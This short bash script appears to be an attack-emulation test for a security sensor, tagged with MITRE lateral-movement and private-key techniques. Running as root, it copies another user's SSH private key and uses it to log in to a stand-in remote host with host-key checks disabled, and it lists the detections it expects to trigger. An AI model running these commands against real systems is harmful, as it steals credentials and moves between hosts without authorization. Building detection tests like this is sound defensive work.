#!/usr/bin/env bash
# tactic: lateral-movement
# technique: T1021.004 Remote Services: SSH; T1552.004 Private Keys
# behaviour: uses another user's private key with ssh to reach the next host as that user (the far side is an SSH-looking stand-in)
# as: root
# needs: remote
# expect: credential_access, new_destination
set -u
cp "$SNTL_VICTIM_HOME/.ssh/id_ed25519" "$SNTL_TMP/k"; chmod 600 "$SNTL_TMP/k"
timeout 3 ssh -i "$SNTL_TMP/k" -o BatchMode=yes -o StrictHostKeyChecking=no -o UserKnownHostsFile=/dev/null -o ConnectTimeout=3 deploy@$SNTL_REMOTE true 2>/dev/null || true
